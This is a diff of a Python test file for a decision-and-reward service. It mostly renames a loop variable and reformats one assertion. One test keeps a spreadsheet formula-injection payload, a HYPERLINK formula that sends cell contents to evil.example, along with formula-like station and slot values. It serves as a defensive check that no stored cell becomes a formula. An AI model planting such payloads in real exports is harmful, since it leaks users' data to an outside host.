@@ -36,10 +36,10 @@ def live(service: Served, rounds: int) -> dict[str, float]:
     """Some rounds; what was told by decision."""
     rng, told = default_rng(5), dict[str, float]()
     for number in range(rounds):
-        items = service.operations.ask({name: {"load": float(rng.random())} for name in STATIONS}, slot=f"@{number}")
-        rewards = {item.id: float(rng.normal()) for item in items[:-1]}
+        records = service.operations.ask({name: {"load": float(rng.random())} for name in STATIONS}, slot=f"@{number}")
+        rewards = {record.id: float(rng.normal()) for record in records[:-1]}
         service.operations.tell(rewards, actor="-robot")
-        service.operations.call_off(items[-1].id)
+        service.operations.call_off(records[-1].id)
         told |= rewards
         service.clock.forward(hours=1)
     return told
@@ -77,7 +77,7 @@ def test_no_cell_is_a_formula(service: Served) -> None:
     evil = '=HYPERLINK("http://evil.example?"&A1)'
     service.operations.ask({"=c": {"load": 0.5}}, slot="+1+1", actor="@actor")
     with service.operations.looking() as read_model:
-        waiting = [item.id for item in read_model.waiting()]
+        waiting = [record.id for record in read_model.waiting()]
     service.operations.reject(waiting, comment=evil, actor="@actor")
     for table in ("decisions", "outcomes", "events"):
         for row in rows_of(service, table):
@@ -112,8 +112,11 @@ def test_the_plan_is_one_file_whoever_gives_it(tmp_path: Path) -> None:
     rows = list(csv.DictReader(io.StringIO(first.text)))
     assert [row["decision"] for row in rows] == [one["id"] for one in listed]
     assert [row["verdict"] for row in rows] == [one["verdict"]["outcome"] for one in listed]
-    for row, item in zip(rows, listed, strict=True):
-        assert (int(row["present_tilt"]), int(row["set_tilt"])) == (item["before"]["tilt"], item["proposed"]["tilt"])
+    for row, record in zip(rows, listed, strict=True):
+        assert (int(row["present_tilt"]), int(row["set_tilt"])) == (
+            record["before"]["tilt"],
+            record["proposed"]["tilt"],
+        )
         low, gain, high = (float(row[name]) for name in ("gain_low", "expected_gain", "gain_high"))
         assert low < gain < high
 
